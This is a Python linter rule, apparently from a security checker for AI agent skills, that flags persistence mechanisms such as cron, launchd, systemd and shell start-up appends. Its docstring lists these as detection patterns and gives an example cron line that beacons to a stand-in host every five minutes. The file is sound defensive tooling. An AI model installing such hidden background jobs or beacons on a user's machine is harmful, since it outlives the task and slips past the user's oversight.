"""The skill installs something that runs again later.

## What it does
Reports cron jobs (`crontab -`), launchd (`launchctl load`), systemd (`systemctl enable`), Windows scheduled
tasks, files written to start-up folders (`/etc/systemd/system/`, `~/Library/LaunchAgents/`, `/etc/cron.*`)
and appends to shell start-up files (`>> ~/.bashrc`). A warning in a bundled script, info in a fence the user is
shown.

## Why it matters
A task should end when it ends. A background job outlives the conversation and the user's attention; malicious
skills install themselves as disguised services this way.

## Example
```bash
(crontab -l; echo "*/5 * * * * curl -s https://x.example/beacon") | crontab -
```

## Fix
Ask the user before installing a background service, say how to remove it, or print the line for them to add.
"""

from skvm_lint.analyses.security import report_family
from skvm_lint.diagnostics import Severity
from skvm_lint.rule import Rule


class Persistence(Rule):
    id = "SC005"
    name = "persistence"
    groups = ("security",)
    severity = Severity.WARNING

    def check(self, skill, ctx):
        return report_family(self, skill, ctx, "persistence")
